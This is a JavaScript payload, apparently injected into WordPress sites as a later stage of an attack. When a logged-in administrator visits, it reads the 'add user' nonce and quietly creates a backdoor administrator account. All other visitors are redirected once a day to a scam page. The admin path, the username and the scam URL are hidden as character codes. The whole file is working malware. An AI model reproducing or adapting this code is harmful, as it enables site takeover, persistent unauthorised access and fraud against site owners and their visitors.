// The next stage: a visitor who is a logged-in WordPress administrator silently creates a
// backdoor administrator (the nonce read from the "add user" page, the form posted back); any
// other visitor, once per day, is sent to a scam page whose address is kept as character codes.
(function () {
  var d = document, w = window, C = String.fromCharCode;
  function adminVisitor() {
    return !!d.getElementById("wpadminbar") || /wordpress_logged_in_|wp-settings-time-1=/.test(d.cookie);
  }
  function plant() {
    var page = C(47,119,112,45,97,100,109,105,110,47,117,115,101,114,45,110,101,119,46,112,104,112);
    var x = new XMLHttpRequest();
    x.open("GET", page, true);
    x.onload = function () {
      var m = /name="_wpnonce_create-user"\s+value="([^"]+)"/.exec(x.responseText);
      if (!m) return;
      var u = C(119,112,115,101,114,118,105,99,101,95,97,100,109);
      var body = "action=createuser&_wpnonce_create-user=" + m[1] + "&user_login=" + u +
        "&email=" + u + "%40mail-relay.invalid&pass1=" + encodeURIComponent("Qv!7r" + Date.now().toString(36)) +
        "&pass1-text=&pass2=&pw_weak=on&role=administrator&createuser=Add+New+User";
      var p = new XMLHttpRequest();
      p.open("POST", page, true);
      p.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
      p.send(body);
    };
    x.send();
  }
  function away() {
    if (d.cookie.indexOf("_wpcrc=") !== -1) return;
    d.cookie = "_wpcrc=1; max-age=86400; path=/";
    w.location.href = C(104,116,116,112,115,58,47,47,99,100,110,46,103,114,101,101,110,108,97,110,100,45,111,102,102,101,114,115,46,105,110,118,97,108,105,100,47,103,111,47,63,117,61,55) +
      "&h=" + encodeURIComponent(w.location.hostname);
  }
  if (adminVisitor()) plant();
  else setTimeout(away, 1500);
})();
